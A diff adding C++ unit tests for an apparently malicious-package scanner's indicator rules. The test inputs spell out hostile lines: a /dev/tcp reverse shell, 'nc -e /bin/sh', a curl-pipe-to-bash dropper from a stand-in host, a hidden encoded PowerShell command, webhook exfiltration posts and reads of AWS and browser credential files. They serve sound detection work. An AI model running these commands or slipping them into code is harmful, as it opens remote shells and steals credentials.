@@ -1,0 +1,190 @@
+#include "analysis/indicators.h"
+
+#include <gtest/gtest.h>
+
+#include <thread>
+
+namespace pyward {
+namespace {
+
+// The shipped indicator files, compiled once for all tests.
+const IndicatorSet& Shipped() {
+  static IndicatorSet* set = [] {
+    auto* s = new IndicatorSet;
+    std::string err;
+    if (!s->Load(std::string(PYWARD_SOURCE_DIR) + "/data/indicators", &err))
+      ADD_FAILURE() << err;
+    return s;
+  }();
+  return *set;
+}
+
+std::vector<Finding> Find(std::string_view text) {
+  std::vector<Finding> out;
+  AppendIndicatorFindings(Shipped(), text, "pkg/mod.py", Phase::kImport, &out);
+  return out;
+}
+
+void ExpectIndicator(std::string_view text, const std::string& rule) {
+  std::vector<Finding> fs = Find(text);
+  bool hit = false;
+  for (const Finding& f : fs) hit |= f.rule == rule;
+  EXPECT_TRUE(hit) << "expected " << rule << " in: " << text;
+}
+
+void ExpectNoIndicator(std::string_view text) {
+  std::vector<Finding> fs = Find(text);
+  EXPECT_TRUE(fs.empty()) << "unexpected " << (fs.empty() ? "" : fs[0].rule + " (" +
+                                                                   fs[0].message + ")")
+                          << " in: " << text;
+}
+
+TEST(IndicatorsTest, ShippedFilesLoad) {
+  EXPECT_GT(Shipped().indicators().size(), 100u);
+  for (const Indicator& i : Shipped().indicators()) {
+    EXPECT_FALSE(i.category.empty()) << i.source;
+    EXPECT_FALSE(i.attack.empty()) << i.source;
+  }
+}
+
+TEST(IndicatorsTest, ExfiltrationChannels) {
+  ExpectIndicator("requests.post('https://discord.com/api/webhooks/1/x', json=d)",
+                  "indicator-webhook");
+  ExpectIndicator("u = 'https://DISCORDAPP.com/api/webhooks/123/abc'", "indicator-webhook");
+  ExpectIndicator("urlopen('https://api.telegram.org/bot123:AA/sendDocument')",
+                  "indicator-webhook");
+  ExpectIndicator("post('https://hooks.slack.com/services/T0/B0/xx')", "indicator-webhook");
+  ExpectIndicator("get('https://pastebin.com/raw/abcd')", "indicator-paste");
+  ExpectIndicator("requests.get('http://x.oast.fun/' + data)", "indicator-tunnel");
+  ExpectIndicator("host = 'abc123.ngrok.io'", "indicator-tunnel");
+  ExpectIndicator("curl https://webhook.site/1234", "indicator-tunnel");
+  ExpectIndicator("r = get('https://bit.ly/3xyz')", "indicator-shortener");
+  ExpectIndicator("curl --upload-file ./a https://transfer.sh/a", "indicator-filehost");
+  ExpectIndicator("ip = get('https://api.ipify.org').text", "indicator-ip-lookup");
+}
+
+TEST(IndicatorsTest, IpLiteralUrls) {
+  ExpectIndicator("urlopen('http://45.13.2.9:8080/payload')", "indicator-ip-url");
+  ExpectIndicator("u = \"https://8.8.8.8/\"", "indicator-ip-url");
+  ExpectIndicator("s.connect(('91.92.1.3', 4444))", "indicator-ip-url");
+  ExpectNoIndicator("app.run('http://127.0.0.1:5000/')");
+  ExpectNoIndicator("see http://192.168.1.10/ and http://10.0.0.1:80/");
+  ExpectNoIndicator("proxy = 'http://172.17.0.1:3128'");
+  ExpectNoIndicator("version 1.2.3.4 released");
+}
+
+TEST(IndicatorsTest, SecretsAndWallets) {
+  ExpectIndicator("open(os.path.expanduser('~/.aws/credentials')).read()",
+                  "indicator-sensitive-path");
+  ExpectIndicator("p = home + '\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'",
+                  "indicator-sensitive-path");
+  ExpectIndicator("os.path.join(roaming, 'discord', 'Local Storage', 'leveldb')",
+                  "indicator-sensitive-path");
+  ExpectIndicator("wallets = appdata + '/Exodus/exodus.wallet'", "indicator-sensitive-path");
+  ExpectIndicator("re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', t)",
+                  "indicator-credential-theft");
+  ExpectIndicator("token = os.environ['GITHUB_TOKEN']", "indicator-secret-env");
+  // A lower-case English phrase is not the browser file.
+  ExpectNoIndicator("# keep local state in memory and login data short");
+}
+
+TEST(IndicatorsTest, ShellsMinersPersistenceDroppers) {
+  ExpectIndicator("os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')",
+                  "indicator-reverse-shell");
+  ExpectIndicator("os.dup2(s.fileno(), 0)", "indicator-reverse-shell");
+  ExpectIndicator("subprocess.call(['nc', '-e', '/bin/sh', h, p])", "indicator-reverse-shell");
+  ExpectIndicator("cmd = 'nc -e /bin/sh 1.2.3.4 9'", "indicator-reverse-shell");
+  ExpectIndicator("'-o', 'stratum+tcp://pool:3333'", "indicator-miner");
+  ExpectIndicator("key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
+                  "indicator-persistence");
+  ExpectIndicator("os.system('curl -s http://x.example/a.sh | bash')", "indicator-dropper");
+  ExpectIndicator("powershell -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+                  "indicator-dropper");
+  ExpectNoIndicator("subprocess.run(['git', 'describe', '--tags'])");
+}
+
+TEST(IndicatorsTest, OrdinaryPackageTextIsQuiet) {
+  ExpectNoIndicator(
+      "from setuptools import setup\n"
+      "setup(name='x', url='https://github.com/x/x', project_urls={'Docs': "
+      "'https://x.readthedocs.io', 'PyPI': 'https://pypi.org/project/x'})\n"
+      "s3 = boto3.client('s3', endpoint_url='https://s3.amazonaws.com')\n");
+}
+
+TEST(IndicatorsTest, FindingCarriesLineAndEvidence) {
+  std::vector<Finding> fs = Find("import requests\n\nrequests.post('https://discord.com/api/webhooks/9/z')\n");
+  ASSERT_EQ(fs.size(), 1u);
+  EXPECT_EQ(fs[0].rule, "indicator-webhook");
+  EXPECT_EQ(fs[0].line, 3);
+  EXPECT_EQ(fs[0].severity, Severity::kHigh);
+  EXPECT_EQ(fs[0].phase, Phase::kImport);
+  EXPECT_EQ(fs[0].file, "pkg/mod.py");
+  EXPECT_NE(fs[0].evidence.find("discord.com/api/webhooks/"), std::string::npos);
+  EXPECT_NE(fs[0].message.find("T1567"), std::string::npos);
+}
+
+TEST(IndicatorsTest, LongLineEvidenceIsCut) {
+  std::string text(200000, ' ');
+  text += "exec(get('https://pastebin.com/raw/q'))";
+  std::vector<Finding> fs = Find(text);
+  ASSERT_EQ(fs.size(), 1u);
+  EXPECT_LE(fs[0].evidence.size(), 170u);
+  EXPECT_NE(fs[0].evidence.find("pastebin.com/raw"), std::string::npos);
+}
+
+TEST(IndicatorsTest, FileFormatAndErrors) {
+  IndicatorSet set;
+  std::string err;
+  const std::string header = "# category: test\n# severity: low\n# attack: T0000 Test\n";
+  ASSERT_TRUE(set.LoadFromTexts(
+      {{"a.txt", header + "lit:evil.example  -  an evil host\n"
+                          "LIT:CaseKept  high  case kept\n"
+                          "re:foo\\d+bar  medium  a regex\n"
+                          "lit:two\\x20words  -  escaped space\n"}},
+      &err))
+      << err;
+  std::vector<std::string> seen;
+  set.Match("EVIL.EXAMPLE casekept CaseKept foo12bar two words",
+            [&](const Indicator& i, size_t) { seen.push_back(i.description); });
+  ASSERT_EQ(seen.size(), 4u);
+  EXPECT_EQ(seen[0], "an evil host");
+  EXPECT_EQ(seen[1], "case kept");
+  EXPECT_EQ(set.indicators()[0].severity, Severity::kLow);
+  EXPECT_EQ(set.indicators()[1].severity, Severity::kHigh);
+
+  IndicatorSet bad;
+  EXPECT_FALSE(bad.LoadFromTexts({{"b.txt", header + "nolit  low  x\n"}}, &err));
+  EXPECT_NE(err.find("b.txt:4"), std::string::npos) << err;
+  EXPECT_FALSE(bad.LoadFromTexts({{"c.txt", header + "re:(unclosed  low  x\n"}}, &err));
+  EXPECT_NE(err.find("c.txt:4"), std::string::npos) << err;
+  EXPECT_FALSE(bad.LoadFromTexts({{"d.txt", "lit:x  low  no header\n"}}, &err));
+  EXPECT_NE(err.find("d.txt:1"), std::string::npos) << err;
+  EXPECT_FALSE(bad.LoadFromTexts({{"e.txt", header + "lit:x  severe  x\n"}}, &err));
+  EXPECT_FALSE(bad.LoadFromTexts({{"f.txt", header + "lit:x  low\n"}}, &err));
+}
+
+TEST(IndicatorsTest, SharedByThreads) {
+  const IndicatorSet& set = Shipped();
+  std::vector<std::thread> ts;
+  std::vector<int> counts(4);
+  for (int t = 0; t < 4; ++t) {
+    ts.emplace_back([&, t] {
+      for (int i = 0; i < 200; ++i)
+        set.Match("x https://pastebin.com/raw/a y", [&](const Indicator&, size_t) {
+          ++counts[t];
+        });
+    });
+  }
+  for (auto& t : ts) t.join();
+  for (int c : counts) EXPECT_EQ(c, 200);
+}
+
+TEST(IndicatorsTest, EmptyAndBinaryInput) {
+  EXPECT_TRUE(Find("").empty());
+  static const char kBin[] = "\x00\xff\x7f" "ELF\x00/dev/tcp/9.9.9.9/53\x00";
+  std::string bin(kBin, sizeof kBin - 1);
+  ExpectIndicator(bin, "indicator-reverse-shell");
+}
+
+}  // namespace
+}  // namespace pyward
